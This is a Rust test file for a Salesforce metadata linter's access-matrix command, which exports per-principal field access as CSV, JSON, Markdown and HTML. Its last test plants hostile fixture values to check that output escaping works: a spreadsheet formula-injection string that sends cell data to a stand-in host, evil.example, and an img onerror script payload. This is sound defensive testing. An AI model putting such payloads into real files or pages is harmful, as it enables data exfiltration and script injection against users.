//! `sflint matrix`: every format, --output, --check.

mod common;

use common::*;

fn classic() -> std::path::PathBuf {
    repo_root().join("testdata/cases/dc/classic")
}

#[test]
fn csv_lists_every_classified_or_sensitive_field_per_principal() {
    let r = run_in(&classic(), &["matrix"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(
        lines[0],
        "field,classification,compliance_groups,principal,access,granted_by,justification,compliance_notes"
    );
    let has = |prefix: &str| lines.iter().any(|l| l.starts_with(prefix));
    assert!(
        has(
            "Account.Annual_Revenue__c,Confidential,,analytics,read,force-app/main/default/permissionsets/External_Analytics_Integration_Access.permissionset-meta.xml:7,Revenue dashboards"
        ),
        "{}",
        r.stdout
    );
    assert!(
        has("Contact.SSN__c,Restricted,PII;GDPR,analytics,none,,,PII: never leaves the CRM"),
        "{}",
        r.stdout
    );
    // unclassified but sensitive-looking: listed with an empty classification
    assert!(
        has("Contact.Birthdate_Text__c,,,analytics,none"),
        "{}",
        r.stdout
    );
    assert_eq!(lines.len(), 1 + 6);
}

#[test]
fn the_csv_reads_back_as_an_access_matrix() {
    let r = run_in(&classic(), &["matrix"]);
    let m = sflint::matrix::parse(sflint::diagnostic::FileId(0), &r.stdout)
        .expect("parses as a matrix");
    assert_eq!(m.rows.len(), 6);
}

#[test]
fn check_reports_differences_and_exits_1() {
    let r = run_in(&classic(), &["matrix", "--check"]);
    assert_eq!(r.code, 1);
    assert!(
        r.stdout.contains(
            "Contact.Credit_Score__c for analytics: the matrix says none, the metadata gives read"
        ),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout
            .contains("Contact.Internal_Notes__c for analytics: the metadata gives read"),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("2 differences"), "{}", r.stdout);
    // A matrix written from the metadata matches it.
    let t = TempDir::new("matrix-check");
    copy_dir(&classic(), t.path());
    let out = run_in(
        t.path(),
        &["matrix", "--output", "security/access-matrix.csv"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    let r = run_in(t.path(), &["matrix", "--check"]);
    assert_eq!(r.code, 0, "{}", r.stdout);
    assert!(r.stdout.contains("matches the metadata"));
}

#[test]
fn check_without_a_configured_matrix_is_a_usage_error() {
    let r = run_in(&repo_root().join("testdata/demo"), &["matrix", "--check"]);
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("none is configured"), "{}", r.stderr);
}

#[test]
fn json_markdown_and_html() {
    let r = run_in(&classic(), &["matrix", "--format", "json"]);
    let v: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
    assert_eq!(v["schema"], "sflint-matrix/1");
    assert_eq!(v["rows"].as_array().unwrap().len(), 6);
    assert_eq!(v["summary"]["by_level"]["Restricted"]["read"], 2);
    assert_eq!(v["summary"]["by_level"]["Confidential"]["read"], 2);

    let r = run_in(&classic(), &["matrix", "--format", "markdown"]);
    assert!(
        r.stdout
            .contains("| Contact.SSN__c | Restricted | PII;GDPR | analytics | none |"),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout.contains("| Restricted | 2 | 0 | 1 |"),
        "{}",
        r.stdout
    );

    let t = TempDir::new("html");
    let file = t.path().join("matrix.html");
    let r = run_in(
        &classic(),
        &[
            "matrix",
            "--format",
            "html",
            "--output",
            file.to_str().unwrap(),
        ],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.is_empty());
    let html = std::fs::read_to_string(&file).unwrap();
    // Structure: a summary table and a sortable matrix table with one row per entry.
    let body = html
        .split("<table class=\"sortable\" id=\"matrix\">")
        .nth(1)
        .expect("matrix table");
    let tbody = body
        .split("<tbody>")
        .nth(1)
        .unwrap()
        .split("</tbody>")
        .next()
        .unwrap();
    assert_eq!(tbody.matches("<tr>").count(), 6);
    assert!(tbody.contains("<td class=\"access-none\">none</td>"));
    assert!(html.contains("<table class=\"summary\" id=\"summary\">"));
    assert!(html.contains("<script>") && html.contains("aria-sort"));
    // Self-contained: nothing loaded from elsewhere.
    for attr in ["src=", "href=", "@import", "url("] {
        assert!(!html.contains(attr), "external reference `{attr}`");
    }
    assert!(html.trim_end().ends_with("</html>"));
    // no temporary file left behind
    assert_eq!(std::fs::read_dir(t.path()).unwrap().count(), 1);
}

fn copy_dir(from: &std::path::Path, to: &std::path::Path) {
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        let target = to.join(e.file_name());
        if e.file_type().unwrap().is_dir() {
            std::fs::create_dir_all(&target).unwrap();
            copy_dir(&e.path(), &target);
        } else {
            std::fs::copy(e.path(), &target).unwrap();
        }
    }
}

#[test]
fn hostile_metadata_values_stay_text_in_csv_and_markdown() {
    let t = TempDir::new("matrix-hostile");
    t.write(
        "sfdx-project.json",
        r#"{"packageDirectories":[{"path":"force-app"}]}"#,
    );
    t.write(
        "force-app/main/default/objects/Contact/fields/SSN__c.field-meta.xml",
        r#"<?xml version="1.0" encoding="UTF-8"?>
<CustomField xmlns="http://soap.sforce.com/2006/04/metadata">
    <fullName>SSN__c</fullName>
    <label>SSN</label>
    <complianceGroup>=HYPERLINK("http://evil.example/?"&amp;A1,"x")</complianceGroup>
    <securityClassification>&lt;img src=x onerror=alert(1)&gt;</securityClassification>
    <type>Text</type>
</CustomField>
"#,
    );
    t.write(
        "force-app/main/default/objects/Contact/fields/Tax_Id__c.field-meta.xml",
        r#"<?xml version="1.0" encoding="UTF-8"?>
<CustomField xmlns="http://soap.sforce.com/2006/04/metadata">
    <fullName>Tax_Id__c</fullName>
    <label>Tax Id</label>
    <complianceGroup>&lt;img src=x onerror=alert(1)&gt;</complianceGroup>
    <type>Text</type>
</CustomField>
"#,
    );
    t.write(
        "force-app/main/default/profiles/Analytics Cloud Integration User.profile-meta.xml",
        r#"<?xml version="1.0" encoding="UTF-8"?>
<Profile xmlns="http://soap.sforce.com/2006/04/metadata">
    <custom>false</custom>
</Profile>
"#,
    );
    let r = run_in(t.path(), &["matrix", "--format", "csv"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let row = r
        .stdout
        .lines()
        .find(|l| l.starts_with("Contact.SSN__c"))
        .unwrap_or_else(|| panic!("{}", r.stdout));
    assert!(row.contains(r#""'=HYPERLINK("#), "{row}");
    assert!(!row.contains(",=HYPERLINK"), "{row}");
    let r = run_in(t.path(), &["matrix", "--format", "markdown"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("&lt;img src=x"), "{}", r.stdout);
    assert!(!r.stdout.contains("<img"), "{}", r.stdout);
}
